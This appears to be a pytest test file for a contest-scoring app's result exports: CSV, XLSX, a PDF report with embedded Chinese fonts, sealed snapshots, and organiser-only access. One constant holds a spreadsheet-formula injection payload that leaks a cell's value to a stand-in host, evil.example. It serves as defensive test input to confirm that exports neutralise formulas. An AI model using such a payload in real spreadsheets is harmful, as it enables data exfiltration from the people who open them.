"""Exports of a round's results: CSV (injection-safe), XLSX (its sheets), the PDF report (Chinese
embedded and extractable), live or from a snapshot, organisers only."""
from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from decimal import Decimal

import pypdfium2
import pytest
from openpyxl import load_workbook

from roadshow.extensions import db
from roadshow.models import Application, Round, ScoreSheet, SheetStatus, User, utcnow
from roadshow.services import publication, result_exports, result_pdf
from roadshow.services.errors import Forbidden, NotFound
from tests.review_builders import make_review

JUDGES = ("judge@example.com", "judge2@example.com", "judge3@example.com")
ORG = "org@example.com"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# per project, each judge's score on every criterion (criteria weights sum to 1: total == score)
SCORES = [(9, 8, 9), (7, 7, 8), (6, 5, 6), (4, 5, 4)]


@dataclass
class World:
    contest_id: int
    round_id: int
    projects: list[int]
    judges: dict[str, int]
    criteria: list[int]


def results_world(app, *, slug="demo") -> World:
    """Contest ``slug`` (演示大赛 / Demo contest), round 网评 / Online review: four projects, the first
    named like a spreadsheet formula, each scored by the same three judges (every sheet submitted)."""
    setup = make_review(app, slug=slug, judges=JUDGES, projects=len(SCORES),
                        assign={email: list(range(len(SCORES))) for email in JUDGES}, k=3)
    with app.test_request_context():
        db.session.get(Application, setup.projects[0]).project_name = EVIL
        for index, values in enumerate(SCORES):
            for email, value in zip(JUDGES, values):
                db.session.add(ScoreSheet(
                    round_id=setup.round_id, judge_id=setup.judges[email], application_id=setup.projects[index],
                    status=SheetStatus.SUBMITTED, scores={str(c): str(value) for c in setup.criteria},
                    total=Decimal(value), submitted_at=utcnow()))
        db.session.commit()
    return World(setup.contest_id, setup.round_id, setup.projects, setup.judges, setup.criteria)


def _context(app):
    return app.test_request_context(headers={"Accept-Language": "en"})


def _live(world):
    return result_exports.live_export(db.session.get(Round, world.round_id), by=User.by_email(ORG))


def test_csv_is_the_ranking_and_neutralises_formulas(app):
    world = results_world(app)
    with _context(app):
        export = _live(world)
        body = result_exports.ranking_csv(export, "en")
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Rank", "Project id", "Project"]
    assert [row[1] for row in rows[1:]] == [str(p) for p in world.projects]  # 26, 22.x, 17, 13: in that order
    assert rows[1][2] == "'" + EVIL  # the quote makes it text: a spreadsheet will not run it
    assert not any(cell.startswith("=") for row in rows for cell in row)
    assert rows[1][0] == "1" and rows[1][5] == "3"
    assert rows[1][4] == "Medical devices"


def test_xlsx_has_ranking_matrix_per_criterion_flags_and_method_sheets(app):
    world = results_world(app)
    with _context(app):
        export = _live(world)
        workbook = load_workbook(io.BytesIO(result_exports.results_xlsx(export, "zh")))
    assert workbook.sheetnames == ["Ranking", "Score matrix", "技术创新", "市场前景", "团队", "Flags", "Method"]
    ranking = list(workbook["Ranking"].iter_rows(values_only=True))
    assert ranking[1][1] == world.projects[0] and ranking[1][2] == "'" + EVIL
    assert workbook["Ranking"].cell(row=2, column=3).data_type == "s"
    assert ranking[1][6] == pytest.approx(26 / 3, abs=1e-4)
    matrix = list(workbook["Score matrix"].iter_rows(values_only=True))
    assert len(matrix[0]) == 3 + len(JUDGES)
    assert sorted(matrix[1][3:]) == [8.0, 9.0, 9.0]
    innovation = list(workbook["技术创新"].iter_rows(values_only=True))
    assert sorted(innovation[4][3:]) == [4.0, 4.0, 5.0]
    method = dict(row[:2] for row in workbook["Method"].iter_rows(values_only=True))
    assert method["aggregation"] == export.method["aggregation"] and method["content_hash"] == export.content_hash
    flags = [row[0] for row in workbook["Flags"].iter_rows(values_only=True)]
    assert "disagreement" in flags and "drawn_by_lot" in flags


def _pdf_text(data: bytes) -> str:
    document = pypdfium2.PdfDocument(data)
    try:
        return "".join(document[i].get_textpage().get_text_range() for i in range(len(document)))
    finally:
        document.close()


def test_pdf_embeds_the_cjk_font_and_its_chinese_is_extractable(app):
    world = results_world(app)
    with _context(app):
        export = _live(world)
        data = result_pdf.report_pdf(export, "zh")
        font = result_pdf.cjk_font()
    assert data.startswith(b"%PDF")
    assert b"/FontFile2" in data  # a TrueType font program is embedded
    from reportlab.pdfbase import pdfmetrics

    face = pdfmetrics.getFont(font).face.name
    assert face in data  # e.g. b"WenQuanYiZenHei" (subset-prefixed)
    text = _pdf_text(data)
    assert "演示大赛" in text and "网评" in text and "Demo contest" in text
    assert export.content_hash in text.replace("\r", "").replace("\n", "")
    assert "Judge" in text and "Judge2" in text  # the signature block names the panel


def test_live_hash_is_the_hash_a_snapshot_taken_now_gets_and_snapshots_export_as_sealed(app):
    world = results_world(app)
    with _context(app):
        round_ = db.session.get(Round, world.round_id)
        org = User.by_email(ORG)
        live = _live(world)
        snapshot = publication.take_snapshot(round_, by=org)
        db.session.commit()
        assert live.content_hash == snapshot.content_hash
        # a later change moves the live computation, never the snapshot's export
        sheet = db.session.query(ScoreSheet).filter_by(application_id=world.projects[3]).first()
        sheet.total = Decimal(10)
        db.session.commit()
        sealed = result_exports.snapshot_export(round_, snapshot.number, by=org)
        assert sealed.content_hash == snapshot.content_hash and sealed.snapshot_number == snapshot.number
        assert _live(world).content_hash != snapshot.content_hash
        assert result_exports.ranking_csv(sealed, "en") == result_exports.ranking_csv(
            result_exports.export_for(round_, by=org, snapshot=snapshot.number), "en")
        assert "snapshot1" in result_exports.filename(sealed, "pdf")
        with pytest.raises(NotFound):
            result_exports.snapshot_export(round_, 99, by=org)


def test_only_organisers_export(app):
    world = results_world(app)
    with _context(app):
        round_ = db.session.get(Round, world.round_id)
        for email in JUDGES:
            with pytest.raises(Forbidden):
                result_exports.live_export(round_, by=User.by_email(email))
            with pytest.raises(Forbidden):
                result_exports.snapshot_export(round_, 1, by=User.by_email(email))


def test_a_missing_font_is_a_clear_error(app):
    world = results_world(app)
    with _context(app):
        export = _live(world)
        app.config["PDF_CJK_FONT"] = "/nonexistent/font.ttc"
        try:
            with pytest.raises(result_pdf.FontMissing) as caught:
                result_pdf.report_pdf(export)
        finally:
            app.config.pop("PDF_CJK_FONT")
        assert "/nonexistent/font.ttc" in caught.value.message and "fonts-wqy-zenhei" in caught.value.message
        assert caught.value.status == 503
